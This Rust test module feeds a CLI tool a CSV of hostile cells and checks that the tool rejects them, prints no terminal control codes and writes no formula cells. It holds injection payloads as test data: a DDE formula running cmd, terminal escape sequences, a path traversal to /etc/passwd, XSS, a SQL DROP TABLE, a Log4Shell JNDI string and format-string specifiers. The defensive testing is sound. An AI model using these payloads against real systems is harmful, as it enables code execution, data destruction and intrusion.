//! Rows that are made to do harm where they are written or shown.

use anyhow::{Context, Result, ensure};

use crate::driver::{Driver, Job};
use crate::fault::{Finding, Trial};
use crate::stage::Stage;

/// What a spreadsheet takes for a formula, when a cell begins with it.
const FORMULA: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// What commands a terminal, or turns the order of what is shown.
const COMMANDS: &[char] = &['\u{1b}', '\u{9b}', '\u{7f}', '\u{202e}', '\u{2066}', '\u{200f}', '\u{8}', '\u{7}'];

/// Cells with formulas, line ends, control characters, changes of direction, and a megabyte in one.
pub(crate) fn hostile_rows(_: &Trial) -> Result<Finding> {
    let megabyte = "a".repeat(1 << 20);
    let cells = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd",
        "\tvip",
        "=HYPERLINK(\"\"http://x\"\")",
        "line\r\nbreak",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\u{9b}31m",
        "\u{202e}gro.elpmaxe",
        "\u{202e}***\u{2066}",
        "\u{2066}x\u{200f}",
        "a\u{8}\u{7f}",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "'; DROP TABLE ledger; --",
        "${jndi:ldap://x}",
        "%s%n%x",
        "\u{feff}",
        "\u{d7ff}\u{10ffff}",
        &megabyte,
    ];
    let row = |cell: &str, group: &str| format!("\"{cell}\",\"{group}\"\n");
    let mut file = "email,groups\n".to_owned();
    for cell in cells {
        file += &row(cell, "vip");
        file += &row(&format!("{cell}@example.com"), "vip");
        file += &row("customer1@example.com", cell);
    }
    let mut executions = 0;
    for driver in Driver::ALL {
        let stage = Stage::new(1)?;
        stage.write("hostile.csv", &file)?;
        let job = Job { file: "hostile.csv".to_owned(), ..Job::default() };
        let finished = stage.run_elsewhere(driver, &job)?;
        let counts = finished.must_report()?;
        ensure!(counts.rejected > 30 && counts.pending + counts.unknown == 0, "{finished}");
        // The drivers print every refusal, and that of a group without a letter quotes it.
        let is_quoted = driver == Driver::Rust || finished.stderr.contains("202e");
        ensure!(is_quoted, "{} shows no hostile text: {finished}", driver.name());
        ensure!(!finished.stderr.contains(COMMANDS), "{} commands the terminal: {:?}", driver.name(), finished.stderr);
        safe_for_spreadsheets(&stage)?;
        executions += counts.rows;
    }
    executions += shown_in_text(&file)?;
    Ok(Finding::of(executions))
}

/// The command writes its rejects for a spreadsheet and its messages for a terminal.
fn shown_in_text(file: &str) -> Result<u64> {
    let stage = Stage::new(1)?;
    stage.write("hostile.csv", file)?;
    let mut command = std::process::Command::new(crate::tools::command());
    command.args("run hostile.csv --email email --groups groups --no-ledger --outcomes outcomes.csv".split(' '));
    command.env("BIZKITHUB_API_KEY", &stage.key).env("BIZKITHUB_BASE_URL", stage.sandbox.url());
    let output = command.current_dir(stage.folder()).output()?;
    let said = [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat();
    ensure!(!said.contains(COMMANDS), "what is printed commands the terminal: {said:?}");
    ensure!(said.len() < 20_000, "a cell of a megabyte is printed");
    safe_for_spreadsheets(&stage)?;
    Ok(1)
}

/// No cell of a file that was written is a formula.
fn safe_for_spreadsheets(stage: &Stage) -> Result<()> {
    for name in ["rejects.csv", "outcomes.csv"] {
        let written = std::fs::read_to_string(stage.path(name)).with_context(|| name.to_owned())?;
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(written.as_bytes());
        let mut rows = 0_u64;
        for record in reader.records() {
            for cell in &record? {
                ensure!(!cell.starts_with(FORMULA), "{name} has the formula {cell:?}");
            }
            rows += 1;
        }
        ensure!(rows > 0, "{name} is empty");
    }
    Ok(())
}
